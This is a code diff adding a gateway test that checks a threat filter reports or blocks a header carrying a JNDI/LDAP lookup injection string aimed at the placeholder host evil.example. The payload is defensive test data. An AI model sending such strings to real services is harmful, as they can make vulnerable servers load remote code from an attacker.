@@ -81,5 +81,32 @@ for (const door of doors) {
         assert.equal(reply.headers.get('strict-transport-security'), null)
       }
     })
+
+    test('threatFilter reports by default, and refuses when it is told to block', async (t) => {
+      const backend = await door.start(t)
+      const headers = { 'X-Note': ['$', '{jndi:ldap://evil.example/a}'].join('') }
+      for (const mode of ['report', 'block'] as const) {
+        const gateway = await startGateway(t, {
+          plugins: [
+            'accessLog',
+            'metrics',
+            { threatFilter: { headers: ['x-note'], ...(mode === 'report' ? {} : { mode }) } },
+          ],
+          ...backend.config({ auth: 'none' }),
+        })
+        const reply = await backend.ask(gateway.url, headers)
+        const text = await reply.text()
+        if (mode === 'report') assert.equal(reply.status, 200)
+        else assert.deepEqual([reply.status, backend.reason(text)], [403, 'THREAT_REFUSED'])
+        const line = await gateway.logged((entry) => entry['threat.score'] !== undefined)
+        assert.equal(line['threat.rules'], 'lookup')
+        assert.ok(!JSON.stringify(gateway.logs).includes('evil.example'))
+        assert.match(
+          await gateway.gateway.metrics.metrics(),
+          new RegExp(`gateway_threats_total\\{rule="lookup",outcome="${mode}ed"\\} 1`),
+        )
+      }
+      assert.equal(backend.seen.length, 1)
+    })
   })
 }
